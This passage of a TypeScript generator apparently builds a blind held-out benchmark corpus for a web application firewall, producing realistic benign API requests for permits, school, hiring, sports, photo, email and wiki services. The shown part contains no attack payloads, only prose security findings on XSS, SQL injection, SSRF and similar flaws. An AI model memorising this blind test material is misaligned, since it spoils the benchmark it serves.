// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads hold literal ${…}
/**
 * Held-out WAF corpus 13 (blind): government permits, K-12 SIS, job board / ATS, sports league,
 * photo sharing, email marketing, vulnerability management and wiki / knowledge base APIs.
 * Run `node bench/waf/corpus/heldout13.ts` to write clean-heldout13.json and attacks-heldout13.json.
 */
import { writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { CorpusRequest } from './generate.ts';

type Headers = Record<string, string>;
type Draft = { kind: string; method: string; path: string; headers: Headers; body: string };
type AttackDraft = Draft & { family: string; technique: string };

/** Seeded PRNG (mulberry32). */
function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const rand = mulberry32(0x13c0ffee);
const int = (lo: number, hi: number): number => lo + Math.floor(rand() * (hi - lo + 1));
const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)] as T;
const hex = (n: number): string => {
  let s = '';
  for (let i = 0; i < n; i++) s += '0123456789abcdef'[int(0, 15)];
  return s;
};
const alnum = (n: number): string => {
  const cs = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
  let s = '';
  for (let i = 0; i < n; i++) s += cs[int(0, cs.length - 1)];
  return s;
};
const uuid = (): string => `${hex(8)}-${hex(4)}-4${hex(3)}-${pick(['8', '9', 'a', 'b'])}${hex(3)}-${hex(12)}`;
const isoDate = (): string =>
  `2026-${String(int(1, 11)).padStart(2, '0')}-${String(int(1, 28)).padStart(2, '0')}`;
const isoTime = (): string =>
  `${isoDate()}T${String(int(0, 23)).padStart(2, '0')}:${String(int(0, 59)).padStart(2, '0')}:${String(int(0, 59)).padStart(2, '0')}Z`;
const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
const enc = encodeURIComponent;
const qs = (o: Record<string, string | number>): string =>
  Object.entries(o)
    .map(([k, v]) => `${enc(k)}=${enc(String(v))}`)
    .join('&');

// ---------------------------------------------------------------- headers

const UA_BROWSER = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.81 Mobile Safari/537.36',
  'Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36',
];
const UA_TOOL = [
  'curl/8.5.0',
  'curl/7.81.0',
  'python-requests/2.32.3',
  'axios/1.7.7',
  'okhttp/4.12.0',
  'Go-http-client/2.0',
  'node-fetch/1.0 (+https://github.com/bitinn/node-fetch)',
  'PostmanRuntime/7.42.0',
  'HTTPie/3.2.4',
  'Dart/3.5 (dart:io)',
];
const UA_APP = [
  'SnapShare/5.14.2 (iPhone15,3; iOS 18.1; Scale/3.00)',
  'SnapShare/5.14.0 (Android 14; Pixel 8 Pro)',
  'LeagueLine/3.2.1 (com.leagueline.app; build:4412; iOS 17.6.1) Alamofire/5.9.1',
  'ParentPortal/2.8.0 (Android 13; SM-A536U) okhttp/4.11.0',
  'PermitGo/1.9.3 CFNetwork/1568.200.51 Darwin/24.1.0',
];
const LANGS = [
  'en-US,en;q=0.9',
  'de-DE,de;q=0.9,en;q=0.8',
  'es-MX,es;q=0.9',
  'fr-FR,fr;q=0.9,en-US;q=0.7',
  'pt-BR,pt;q=0.9',
  'ja-JP,ja;q=0.9',
  'pl-PL,pl;q=0.9,en;q=0.6',
  'en-GB,en;q=0.9',
];

function jwt(): string {
  const h = Buffer.from('{"alg":"RS256","typ":"JWT","kid":"k' + hex(6) + '"}').toString('base64url');
  const p = Buffer.from(
    JSON.stringify({
      sub: uuid(),
      iat: 1764300000 + int(0, 99999),
      exp: 1764400000 + int(0, 99999),
      scope: 'api',
    }),
  ).toString('base64url');
  return `${h}.${p}.${alnum(43)}_${alnum(20)}`;
}

function browser(host: string, ct?: string, extra: Headers = {}): Headers {
  const h: Headers = {
    host,
    'user-agent': pick(UA_BROWSER),
    accept: 'application/json, text/plain, */*',
    'accept-language': pick(LANGS),
    'accept-encoding': 'gzip, deflate, br, zstd',
    origin: `https://${host.replace(/^api\./, 'app.')}`,
    referer: `https://${host.replace(/^api\./, 'app.')}/${pick(['dashboard', 'settings', 'edit', 'inbox', 'reports'])}`,
    cookie: `session=${alnum(32)}; _ga=GA1.1.${int(100000000, 999999999)}.${int(1700000000, 1764000000)}; csrftoken=${alnum(32)}`,
    'x-csrf-token': alnum(40),
    'sec-fetch-site': 'same-site',
    'sec-fetch-mode': 'cors',
  };
  if (ct) h['content-type'] = ct;
  return { ...h, ...extra };
}

function sdk(host: string, ct?: string, extra: Headers = {}): Headers {
  const h: Headers = {
    host,
    'user-agent': pick(UA_TOOL),
    accept: 'application/json',
    authorization: pick([`Bearer ${jwt()}`, `Bearer sk_live_${alnum(32)}`, `Token ${hex(40)}`]),
    'x-request-id': uuid(),
  };
  if (ct) h['content-type'] = ct;
  return { ...h, ...extra };
}

function mobile(host: string, ct?: string, extra: Headers = {}): Headers {
  const h: Headers = {
    host,
    'user-agent': pick(UA_APP),
    accept: 'application/json',
    'accept-language': pick(LANGS),
    authorization: `Bearer ${jwt()}`,
    'x-device-id': uuid().toUpperCase(),
    'x-app-version': `${int(1, 5)}.${int(0, 20)}.${int(0, 9)}`,
  };
  if (ct) h['content-type'] = ct;
  return { ...h, ...extra };
}

const anyClient = (host: string, ct?: string, extra: Headers = {}): Headers =>
  pick([browser, browser, sdk, mobile])(host, ct, extra);

const jsonCt = (): string =>
  pick(['application/json', 'application/json; charset=utf-8', 'application/json;charset=UTF-8']);

function multipart(parts: { name: string; value: string; filename?: string; type?: string }[]): {
  ct: string;
  body: string;
} {
  const boundary = pick([
    `----WebKitFormBoundary${alnum(16)}`,
    `----formdata-undici-0${int(10000000000, 99999999999)}`,
    `${'-'.repeat(26)}${int(100000000000, 999999999999)}`,
  ]);
  let body = '';
  for (const p of parts) {
    body += `--${boundary}\r\nContent-Disposition: form-data; name="${p.name}"`;
    if (p.filename !== undefined) body += `; filename="${p.filename}"`;
    body += '\r\n';
    if (p.type) body += `Content-Type: ${p.type}\r\n`;
    body += `\r\n${p.value}\r\n`;
  }
  body += `--${boundary}--\r\n`;
  return { ct: `multipart/form-data; boundary=${boundary}`, body };
}

// ---------------------------------------------------------------- hosts and pools

const H = {
  permits: 'api.permits.cityofbrookhaven.gov',
  sis: 'api.sis.northvalleyusd.org',
  jobs: 'api.hirewell.io',
  league: 'api.leagueline.app',
  photo: 'api.snapshare.photos',
  mail: 'api.sendcanary.com',
  vuln: 'api.vulndesk.internal.acme-corp.com',
  wiki: 'kb.acme-corp.com',
};

const FIRST = [
  'Maria',
  'James',
  'Aisha',
  'Chen',
  'Olga',
  'Juan',
  'Priya',
  'Tomasz',
  'Fatima',
  'Liam',
  'Yuki',
  'Sven',
  'Nnamdi',
  'Chloé',
  'Mateus',
  'Hannah',
  "D'Andre",
  'Siobhán',
  'José',
  'Zoë',
];
const LAST = [
  'García',
  'Smith',
  'Okafor',
  'Nguyen',
  'Kowalski',
  "O'Brien",
  'Müller',
  'Patel',
  'Fernández',
  'Johnson',
  'Tanaka',
  'Larsen',
  'Haddad',
  'Dubois',
  'Silva',
  'Van der Berg',
  'Ní Bhriain',
  'Smith-Jones',
];
const person = (): string => `${pick(FIRST)} ${pick(LAST)}`;
const email = (): string =>
  `${pick(FIRST)
    .toLowerCase()
    .replace(/[^a-z]/g, '')}.${pick(LAST)
    .toLowerCase()
    .replace(
      /[^a-z]/g,
      '',
    )}${pick(['', '', String(int(1, 99))])}@${pick(['gmail.com', 'outlook.com', 'yahoo.com', 'icloud.com', 'proton.me', 'northvalleyusd.org', 'acme-corp.com'])}`;
const STREETS = [
  '1423 Oak St',
  '88 W. Main Street, Apt 4B',
  '300 Industrial Pkwy Unit #12',
  '17 Rue des Lilas',
  '5 Maple Ct.',
  '2201 N 45th Ave (rear lot)',
  '460 Harbor Blvd Suite 200',
];

// ---------------------------------------------------------------- text pools (clean)

const PROSE_EN = [
  'Hi, I submitted the form yesterday but the status still says "Pending review". Is there anything else I need to upload? Thanks!',
  "Great coach, my son's confidence went way up this season. Only complaint: practice schedule changed 3x w/o notice :(",
  'The site keeps logging me out when I select "Drop table" from the dropdown on the seating chart — is that a known bug?',
  'Please update my address; we moved. Old: 12 Elm St. New: 440 Cedar Rd #3. Effective 11/01.',
  "Photo's gorgeous 😍 what lens? 35mm f/1.4? The bokeh on the left side is insane",
  'Can we select all students from 3rd period and drop the ones who already turned in the permission slip? Trying to avoid double emails.',
  "Attaching the revised site plan (rev C). Setback from the property line is now 7'6\" instead of 5', per the zoning comment.",
  "I've been a backend engineer for 8 yrs (Python/Go, some Rust). Comfortable with SQL, Postgres tuning, k8s, Terraform. Open to remote or hybrid in Austin.",
  'Game got rained out — rescheduled for Sat 10am @ Field 4. Bring both jerseys (home/away) just in case.',
  "Unsubscribe link didn't work for me, it says 404. I'd like to be removed from the list please.",
  'Why does the export say "rows 1-50 of 1,204" but the CSV only has 50 rows? I need the whole thing for the audit.',
  "Ok so I tried 'rm -rf node_modules' and reinstalling like the wiki said and it still fails. Same error.",
  'Refund request: charged twice for the fall registration ($85.00 x2) on 9/14. Order #A-20931 and #A-20932.',
  "I'm not sure if this is the right place, but the link in the email goes to http://example.com/unsubscribe?id= with nothing after the equals sign.",
  'Loved the sunset set! Shot on a Fuji X-T5, 23mm, ISO 160, 1/1000s. Edited in Lightroom with my own preset.',
  "Teacher said the grade should be an 'A-' but portal shows 'B+'. Can someone check? Assignment: Ch. 5 quiz (11/3).",
  'Fence permit: 6 ft privacy fence, cedar, ~120 linear ft along the rear & east side. Contractor: Smith & Sons Fencing LLC.',
  'Meeting notes → action items: 1) @dana to fix the SSO redirect; 2) @raj update runbook; 3) everyone: review the "select * from" queries in reports before Friday.',
  'Quick q: is the 1099 uploaded under Documents > Tax, or do I have to email it? The upload button is greyed out.',
  "Worst ref I've ever seen. Two offsides missed in the 2nd half & a red card that was clearly a yellow. Filing a formal complaint.",
  'The script tag in our header got removed after the last update and now analytics is broken — can support check what changed?',
  'Hey team, heads up: the 5 pm deploy will restart the API; expect ~2 min of 503s. Nothing to do on your side.',
  "Our DBA ran DELETE FROM staging_rows WHERE created_at < now() - interval '30 days' and the dashboard still shows old rows. Cache?",
  "Report card comment: Amara is a joy to have in class. She's reading at a 4th-grade level & asks great questions. Next step: show work in math (not just the answer!).",
  'The email preview looks fine in Gmail but in Outlook 2016 the button is huge and the background colour is gone. Is that the VML thing? Our template is attached.',
  'Subject line A/B test: "50% off ends tonight" vs "Last chance 🕛" — B won on opens (+3.1%) but A won on clicks. Which do we use for the resend?',
  "Hi, I was scanning our network with nmap (authorized, ticket SEC-2231) and the host 10.4.2.17 answered on 3389. Who owns it? It's not in the CMDB.",
  'Heads-up: the permit fee calculator rounds $1,249.995 to $1,249.99 instead of $1,250.00. Small, but the auditor noticed.',
  'Note to self: the "DROP" column in the roster export means the student dropped the class, not a database thing lol. Renaming it to "Withdrawn".',
  "Cover letter: I'm applying for the Sr. Data Analyst role (req #4471). I've built ETL pipelines in dbt + Snowflake and love a good window function.",
];
const PROSE_INTL = [
  'Hallo, ich habe den Antrag am 3.11. eingereicht, aber bisher keine Rückmeldung erhalten. Können Sie bitte den Status prüfen? Danke!',
  'Buenísima la foto, ¿dónde fue tomada? Parece el Parque Nacional Torres del Paine 🏔️',
  "Bonjour, mon fils ne peut pas se connecter au portail depuis lundi. Le message d'erreur dit « identifiant invalide ».",
  'Olá! Gostaria de saber se o jogo de sábado foi remarcado. O campo 2 está alagado.',
  '写真がとても綺麗です！どのカメラを使いましたか？',
  'Dzień dobry, proszę o informację, czy pozwolenie na budowę garażu zostało już zatwierdzone. Numer wniosku: PB/2026/0412.',
  'Привет! Подскажите, пожалуйста, как изменить адрес электронной почты в профиле?',
  'مرحبا، أود الاستفسار عن موعد مقابلة العمل. شكرا لكم',
  '안녕하세요, 다음 주 경기 일정이 변경되었나요?',
  'Ciao, il link per il download del modulo non funziona. Potete inviarmelo via email?',
  'Merhaba, başvurumun durumu hakkında bilgi alabilir miyim? Teşekkürler.',
  'Hej! Jag har laddat upp mitt CV men det syns inte i ansökan. Vad gör jag fel?',
  '你好，我想把孩子的午餐卡余额转到下学期，可以吗？',
  'Xin chào, tôi muốn hỏi về giấy phép kinh doanh của tôi. Đã nộp hồ sơ từ tuần trước.',
  'שלום, האם אפשר לשנות את שעת האימון ליום שלישי?',
  'नमस्ते, मेरा आवेदन अभी तक स्वीकृत नहीं हुआ है। कृपया जांच करें।',
];
const TITLES = [
  'Fall 2026 Update',
  "Q4 Newsletter — What's new?",
  'Re: permit #BLD-2026-0831',
  'U12 Girls Schedule (updated!!)',
  'Onboarding checklist v2',
  'Night sky over Joshua Tree ✨',
  '[Action required] Verify your email',
  'Café & Crème: holiday menu',
  'Incident 2026-11-02 post-mortem',
  'How to reset 2FA',
];
const TAGS = [
  'urgent',
  'follow-up',
  'landscape',
  'portrait',
  'bw',
  'u10',
  'varsity',
  'backend',
  'remote',
  'k8s',
  'sql',
  'how-to',
  'faq',
  'p1',
  'cve',
  'newsletter',
  'black-friday',
];

const MARKDOWN_PAGES = [
  "# Resetting a stuck deployment\n\nIf `kubectl rollout status` hangs, check events first:\n\n```bash\nkubectl -n payments get events --sort-by=.lastTimestamp | tail -20\nkubectl -n payments rollout undo deploy/api\n```\n\n> **Note:** don't `delete` the namespace, you will lose the secrets.\n\nSee also [Runbook: rollbacks](https://kb.acme-corp.com/wiki/runbooks/rollbacks).",
  "## Querying the reporting replica\n\nUse the read-only user. Example:\n\n```sql\nSELECT team_id, count(*) AS open_tickets\nFROM tickets\nWHERE status IN ('open', 'triage')\n  AND created_at > now() - interval '7 days'\nGROUP BY team_id\nORDER BY open_tickets DESC;\n```\n\nNever run `UPDATE` or `DELETE` there — it will fail anyway (replica is read-only).",
  '# VPN FAQ\n\n1. Install the client from Self Service.\n2. Server: `vpn.acme-corp.com`\n3. If you get *"TLS handshake failed"*, your clock is probably off. Run `sudo sntp -sS time.apple.com`.\n\n| OS | Client | Notes |\n|----|--------|-------|\n| macOS | 4.10 | works on Sequoia |\n| Windows | 4.10 | needs admin |\n| Linux | openconnect | `sudo openconnect --protocol=gp vpn.acme-corp.com` |',
  "## Local dev setup\n\n```sh\ngit clone git@github.com:acme/web.git && cd web\ncp .env.example .env   # then fill DATABASE_URL\nnpm ci && npm run dev\n```\n\nIf port 3000 is taken: `lsof -i :3000` and kill the process. On Windows use `netstat -ano | findstr :3000`.\n\nCommon error: `Error: connect ECONNREFUSED 127.0.0.1:5432` → Postgres isn't running (`brew services start postgresql@16`).",
  '# Style guide for customer emails\n\n- Use the customer\'s first name: `{{ first_name | default: "there" }}`\n- Never promise dates.\n- Sign off with the team name, not your own.\n\n<details><summary>Examples</summary>\n\n> Hi Sam, thanks for reaching out! We\'ve passed this to engineering.\n\n</details>',
  '## Log format\n\nOur access logs look like this:\n\n```\n10.2.14.7 - - [02/Nov/2026:13:55:36 +0000] "GET /api/v2/orders?page=3 HTTP/1.1" 200 5123 "-" "Mozilla/5.0"\n10.2.14.9 - - [02/Nov/2026:13:55:37 +0000] "POST /api/v2/login HTTP/1.1" 401 87 "-" "okhttp/4.12.0"\n```\n\nGrep for 5xx: `awk \'$9 ~ /^5/\' access.log | sort | uniq -c | sort -rn | head`',
  '# Python snippets\n\n```python\nimport subprocess\nout = subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True, text=True, check=True)\nprint(out.stdout.strip())\n```\n\nPrefer `pathlib.Path` over `os.path.join`. Don\'t use `eval()` on user input — ever.',
  '# Onboarding: week 1\n\n- [ ] Laptop + SSO (Okta)\n- [ ] Request access to `#eng-oncall` and `#incidents`\n- [ ] Read the [architecture overview](/wiki/architecture)\n- [x] Set up 1:1 with your manager\n\nQuestions? Ping @helpdesk or email it-help@acme-corp.com 🙂',
];

const CODE_SNIPPETS: { lang: string; source: string }[] = [
  {
    lang: 'javascript',
    source:
      "const res = await fetch('/api/v1/photos?limit=20', { headers: { Authorization: `Bearer ${token}` } });\nif (!res.ok) throw new Error(`HTTP ${res.status}`);\nconst { items } = await res.json();\ndocument.querySelector('#count').textContent = items.length;",
  },
  {
    lang: 'sql',
    source:
      "SELECT s.student_id, s.last_name, AVG(g.score) AS avg_score\nFROM students s\nJOIN grades g ON g.student_id = s.student_id\nWHERE g.term = '2026-FALL'\nGROUP BY s.student_id, s.last_name\nHAVING AVG(g.score) < 70\nORDER BY avg_score ASC;",
  },
  {
    lang: 'bash',
    source:
      '#!/usr/bin/env bash\nset -euo pipefail\nfor f in ./exports/*.csv; do\n  gzip -9 "$f"\n  aws s3 cp "$f.gz" s3://acme-archive/exports/ --sse AES256\ndone\necho "done: $(date -u +%FT%TZ)"',
  },
  {
    lang: 'yaml',
    source:
      'version: 2\nupdates:\n  - package-ecosystem: npm\n    directory: /\n    schedule:\n      interval: weekly\n    ignore:\n      - dependency-name: "@types/node"\n        update-types: ["version-update:semver-major"]',
  },
  {
    lang: 'python',
    source:
      "def paginate(session, url, params=None):\n    params = dict(params or {})\n    while url:\n        r = session.get(url, params=params, timeout=10)\n        r.raise_for_status()\n        data = r.json()\n        yield from data['items']\n        url = data.get('next')\n        params = None",
  },
  {
    lang: 'nginx',
    source:
      'location /api/ {\n    proxy_pass http://127.0.0.1:8080;\n    proxy_set_header Host $host;\n    proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;\n    client_max_body_size 20m;\n}',
  },
  {
    lang: 'dockerfile',
    source:
      'FROM node:22-alpine AS build\nWORKDIR /app\nCOPY package*.json ./\nRUN npm ci --omit=dev\nCOPY . .\nUSER node\nCMD ["node", "server.js"]',
  },
  {
    lang: 'go',
    source:
      'func (h *Handler) Get(w http.ResponseWriter, r *http.Request) {\n\tid := chi.URLParam(r, "id")\n\trow := h.db.QueryRowContext(r.Context(), "SELECT name FROM teams WHERE id = $1", id)\n\tvar name string\n\tif err := row.Scan(&name); err != nil {\n\t\thttp.Error(w, err.Error(), http.StatusNotFound)\n\t\treturn\n\t}\n\tjson.NewEncoder(w).Encode(map[string]string{"name": name})\n}',
  },
  {
    lang: 'powershell',
    source:
      'Get-ChildItem -Path C:\\Reports -Filter *.xlsx -Recurse |\n  Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-90) } |\n  Remove-Item -WhatIf',
  },
  {
    lang: 'jinja',
    source:
      '{% for item in order.items %}\n  <tr><td>{{ item.name }}</td><td>{{ item.qty }}</td><td>{{ item.price | money }}</td></tr>\n{% endfor %}',
  },
];

const ERR_LOGS = [
  'java.lang.NullPointerException: Cannot invoke "String.length()" because "name" is null\n\tat com.hirewell.ats.ResumeParser.parse(ResumeParser.java:88)\n\tat com.hirewell.ats.ImportJob.run(ImportJob.java:41)',
  'Traceback (most recent call last):\n  File "/app/sis/sync.py", line 212, in sync_roster\n    cur.execute(sql, params)\npsycopg2.errors.UniqueViolation: duplicate key value violates unique constraint "enrollments_pkey"\nDETAIL:  Key (student_id, section_id)=(10443, 882) already exists.',
  "ERROR 1064 (42000): You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near '' at line 1",
  '2026-11-02T14:03:11.882Z ERROR [upload-worker] sharp: Input buffer contains unsupported image format (file=IMG_4471.HEIC, size=3.2MB)',
  'npm ERR! code ERESOLVE\nnpm ERR! ERESOLVE unable to resolve dependency tree\nnpm ERR! Found: react@19.0.0',
  'Nov 02 03:14:07 web-3 kernel: [8812.441] Out of memory: Killed process 22871 (node) total-vm:4318424kB, anon-rss:2011560kB',
  "fatal: unable to access 'https://github.com/acme/infra.git/': Could not resolve host: github.com",
  "TypeError: Cannot read properties of undefined (reading 'map')\n    at TeamRoster (webpack-internal:///./src/components/TeamRoster.tsx:42:27)",
];

const CMS_HTML = [
  '<h2>Winter Break Schedule</h2><p>School will be <strong>closed</strong> from <em>Dec 22 – Jan 2</em>. Classes resume Monday, January 5.</p><ul><li>Last day: half day, dismissal at 12:15 pm</li><li>Lunch will be served</li></ul><p>Questions? Contact the front office at <a href="mailto:office@northvalleyusd.org">office@northvalleyusd.org</a>.</p>',
  '<p>We are hiring a <strong>Senior Backend Engineer</strong> to join our Payments team.</p><h3>What you\'ll do</h3><ul><li>Design APIs used by 2M+ merchants</li><li>Own services in Go &amp; PostgreSQL</li></ul><h3>Requirements</h3><ol><li>5+ years experience</li><li>Comfortable on-call (1 week / 6)</li></ol><p style="color:#555;font-size:13px">Equal opportunity employer.</p>',
  '<p><img src="https://cdn.leagueline.app/uploads/2026/10/champions.jpg" alt="U14 Champions" width="600" height="400" loading="lazy"></p><p>Congratulations to the <span style="color: rgb(230, 0, 0);">Red Hawks</span> on winning the fall championship 3–1! 🏆</p><blockquote><p>"Best season in ten years." — Coach Ramírez</p></blockquote>',
  '<h1>Notice of Public Hearing</h1><p>The Planning Commission will hold a public hearing on <time datetime="2026-12-09T18:30">December 9, 2026 at 6:30 PM</time> in Council Chambers, 100 Civic Center Dr.</p><table border="1" cellpadding="4"><thead><tr><th>Case</th><th>Address</th><th>Request</th></tr></thead><tbody><tr><td>ZV-26-014</td><td>1423 Oak St</td><td>Variance, rear setback</td></tr></tbody></table>',
  '<div class="callout callout-warning"><p><strong>Heads up:</strong> the <code>/v1/export</code> endpoint is deprecated. Use <code>/v2/exports</code> instead.</p></div><pre><code class="language-bash">curl -H "Authorization: Bearer $TOKEN" https://api.example.com/v2/exports</code></pre>',
  '<p>Hi families,</p><p>Picture day is <u>Thursday, Oct 16</u>. Order forms go home in Friday folders. You can also order online: <a href="https://photos.lifetouch.example/nvusd" target="_blank" rel="noopener noreferrer">Lifetouch portal</a>.</p><p><br></p><p>— Mrs. Okafor, 4th grade</p>',
  '<figure class="image"><img src="/media/2026/hike.webp" alt=""><figcaption>Trail at sunrise</figcaption></figure><p>Editing tip: lift shadows <em>before</em> you touch the HSL panel.</p><iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" title="YouTube video player" frameborder="0" allowfullscreen></iframe>',
];

function emailTemplate(): string {
  const brand = pick([
    'Café Crème',
    'Trailhead Outfitters',
    'North Valley PTA',
    'Brightline Fitness',
    'Okafor & Sons Hardware',
  ]);
  const color = pick(['#ff6b35', '#1a73e8', '#2e7d32', '#6a1b9a', '#c62828']);
  return `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=UTF-8">
<meta name="viewport" content="width=device-width, initial-scale=1.0">
<title>${brand}</title>
<!--[if mso]><xml><o:OfficeDocumentSettings><o:PixelsPerInch>96</o:PixelsPerInch></o:OfficeDocumentSettings></xml><![endif]-->
<style type="text/css">
  body { margin:0; padding:0; -webkit-text-size-adjust:100%; }
  table, td { border-collapse:collapse; mso-table-lspace:0pt; mso-table-rspace:0pt; }
  .btn a { background:${color}; color:#ffffff !important; padding:12px 24px; border-radius:4px; text-decoration:none; }
  @media only screen and (max-width:600px) { .container { width:100% !important; } }
</style>
</head>
<body style="background-color:#f4f4f4;">
<div style="display:none;max-height:0;overflow:hidden;">${pick(['Your November update is here', '20% off this weekend only', 'Important: schedule change'])}&#847;&zwnj;&nbsp;</div>
<table role="presentation" width="100%" cellspacing="0" cellpadding="0" border="0">
<tr><td align="center">
<!--[if mso | IE]><table align="center" border="0" cellpadding="0" cellspacing="0" width="600"><tr><td><![endif]-->
<table class="container" width="600" style="background:#ffffff;">
<tr><td style="padding:24px;font-family:Arial,Helvetica,sans-serif;">
<img src="https://cdn.sendcanary.com/u/${hex(8)}/logo.png" width="140" alt="${brand}" style="display:block;border:0;">
<h1 style="font-size:22px;">Hi {{first_name|default:"friend"}},</h1>
<p>${pick(['Thanks for being part of our community this year.', 'Our winter collection just dropped — and subscribers get first dibs.', 'Here is everything you need to know before the spring season starts.'])}</p>
<!--[if mso]><v:roundrect xmlns:v="urn:schemas-microsoft-com:vml" href="{{cta_url}}" style="height:44px;v-text-anchor:middle;width:200px;" arcsize="10%" fillcolor="${color}"><w:anchorlock/><center style="color:#ffffff;">Shop now</center></v:roundrect><![endif]-->
<!--[if !mso]><!-- --><p class="btn"><a href="{{cta_url}}?utm_source=newsletter&amp;utm_medium=email&amp;utm_campaign=*|CAMPAIGN_UID|*">Shop now</a></p><!--<![endif]-->
<p style="font-size:12px;color:#888;">You are receiving this because you subscribed at {{signup_source}}. <a href="*|UNSUB|*">Unsubscribe</a> | <a href="{{ preferences_url }}">Preferences</a><br>${brand}, ${pick(STREETS)}</p>
</td></tr></table>
<!--[if mso | IE]></td></tr></table><![endif]-->
</td></tr></table>
</body>
</html>`;
}

const FINDING_DESCS = [
  'During the quarterly external scan we found that the permits portal (permits.cityofbrookhaven.gov) still accepts TLS 1.0 and 1.1. Ciphers include TLS_RSA_WITH_3DES_EDE_CBC_SHA (SWEET32). Recommend disabling < TLS 1.2 on the F5 profile.',
  'Reflected XSS in the job search page: the `q` parameter is echoed into an HTML attribute without encoding. Verified in Chrome 131 with a harmless marker string; CSP is report-only so it does not block. Severity: Medium (CVSS 6.1). Fix: contextual output encoding + enforce CSP.',
  'The /api/v1/students/{id} endpoint returns records for other schools when the id is changed (IDOR / BOLA). Tested with two teacher accounts in different buildings. PII exposed: name, DOB, address, IEP flag. High.',
  "Dependency scan: lodash 4.17.15 in the photo-service (prototype pollution, CVE-2020-8203) and log4j-core 2.14.1 in the legacy reporting jar (CVE-2021-44228, Log4Shell). The jar isn't reachable from the internet per the network diagram, but please upgrade to 2.17.1+ anyway.",
  'SQL injection (time-based, blind) in the legacy league stats export — the `sort` parameter is concatenated into ORDER BY. Confirmed with sqlmap at level 1 against staging only. No WAF in front of staging. Recommend parameterising / allow-listing sort columns.',
  'S3 bucket snapshare-prod-thumbs has a bucket policy allowing s3:GetObject for "Principal": "*". Thumbnails only, but EXIF GPS data is preserved. Medium; strip EXIF on upload.',
  "SSRF: the 'import from URL' feature in the wiki fetches arbitrary URLs server side, including link-local addresses. We confirmed it can reach the instance metadata service on staging (IMDSv1 still enabled). Critical on prod if IMDSv1 is on. Enforce IMDSv2 and an egress allow-list.",
  'Path traversal in the attachment download handler: the filename query parameter is joined to the upload dir without normalisation. On staging we could read files outside the directory. Use a content-addressed id instead of the user-supplied name.',
  'Stored secrets in the email-marketing repo: an old SendGrid key (SG.xxxx…, revoked 2026-10-30) was found in git history by trufflehog. Rotated; ticket kept open to purge history with git filter-repo.',
  'Weak password policy on the parent portal: minimum length 6, no breach check, no rate-limit on /login (we did 500 attempts/min without lockout). Recommend 12+ chars, HIBP k-anonymity check, and progressive delays.',
];

const REVIEW_SNIPPETS = [
  'Interviewed well, strong on system design. Hesitant on SQL window functions but recovered. Recommend onsite.',
  "Candidate asked great q's about on-call. Culture add. Coding: solved 2/3, third one ran out of time (off-by-one on the < vs <=).",
  'No-show for the 2pm call, rescheduled once already. Pass.',
  'Salary expectation $165k–$180k base, wants remote. Start date Jan 5.',
  'Portfolio link is github.com/jdoe — nice CLI tool in Rust, well-tested.',
];

// ---------------------------------------------------------------- clean generators

type Gen = () => Draft;
const J = (o: unknown): string => JSON.stringify(o);

const cleanGens: Gen[] = [
  // ---------- government permits
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: '/v2/permits/applications',
    headers: browser(H.permits, jsonCt()),
    body: J({
      permit_type: pick(['building', 'electrical', 'fence', 'demolition', 'sign', 'right-of-way']),
      applicant: {
        name: person(),
        email: email(),
        phone: `(${int(200, 989)}) ${int(200, 999)}-${int(1000, 9999)}`,
      },
      site_address: pick(STREETS),
      parcel_id: `${int(100, 999)}-${int(10, 99)}-${int(100, 999)}`,
      valuation_usd: int(800, 250000),
      scope_of_work: pick(
        PROSE_EN.filter((p) => /permit|fence|site|setback/i.test(p)).concat([
          'Replace 200A panel with 400A service, add EV charger circuit (NEMA 14-50) in garage.',
          'Interior remodel: remove non-load-bearing wall between kitchen & dining. No structural changes.',
        ]),
      ),
      contractor_license: pick([`C-${int(100000, 999999)}`, null]),
      attestations: { owner_consent: true, hoa_approved: rand() > 0.5 },
    }),
  }),
  () => ({
    kind: 'merge-patch',
    method: 'PATCH',
    path: `/v2/permits/applications/BLD-2026-${String(int(1, 9999)).padStart(4, '0')}`,
    headers: browser(H.permits, 'application/merge-patch+json'),
    body: J({
      site_address: pick(STREETS),
      valuation_usd: int(1000, 90000),
      contractor_license: null,
      notes: pick(PROSE_EN),
    }),
  }),
  () => ({
